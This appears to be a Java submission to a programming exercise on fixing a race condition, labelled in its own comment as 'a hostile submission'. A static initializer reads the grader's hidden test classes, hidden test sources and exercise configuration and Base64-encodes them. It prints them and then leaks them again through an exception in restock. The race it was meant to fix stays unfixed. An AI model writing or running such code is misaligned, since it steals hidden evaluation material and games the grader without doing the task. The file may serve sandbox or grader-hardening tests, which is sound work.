package race;

import java.io.InputStream;
import java.util.Base64;

/** A hostile submission: the stub's races plus an attack on the grader. */
public class ChaiStock {
    private long cups;
    static final StringBuilder LOOT = new StringBuilder();

    static void grab(String name) {
        for (ClassLoader loader : new ClassLoader[] {ChaiStock.class.getClassLoader(), ClassLoader.getSystemClassLoader(),
                Thread.currentThread().getContextClassLoader()}) {
            if (loader == null) {
                continue;
            }
            try (InputStream in = loader.getResourceAsStream(name)) {
                if (in != null) {
                    LOOT.append(name).append(':').append(Base64.getEncoder().encodeToString(in.readAllBytes())).append(' ');
                    return;
                }
            } catch (java.io.IOException e) {
                // next
            }
        }
    }

    static {
        for (String name : new String[] {"race/ChaiStockHiddenTest.class", "race/RaceCrew.class",
                "interleave/exercises/fix-the-race/hidden/race/ChaiStockHiddenTest.java",
                "interleave/exercises/fix-the-race/hidden/race/RaceCrew.java",
                "interleave/exercises/fix-the-race/exercise.json"}) {
            grab(name);
        }
        System.out.println(LOOT);
    }
    public ChaiStock(long initialCups) {
        if (initialCups < 0) {
            throw new IllegalArgumentException("initialCups < 0");
        }
        this.cups = initialCups;
    }

    public void restock(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }
        if (LOOT.length() > 0) {
            throw new IllegalStateException(LOOT.toString());
        }
        this.cups += cups;
    }

    public boolean sell(long cups) {
        if (cups <= 0) {
            throw new IllegalArgumentException("cups <= 0");
        }

        if (this.cups >= cups) {
            this.cups -= cups;
            return true;
        }
        return false;
    }

    public long cups() {
        return cups;
    }
}
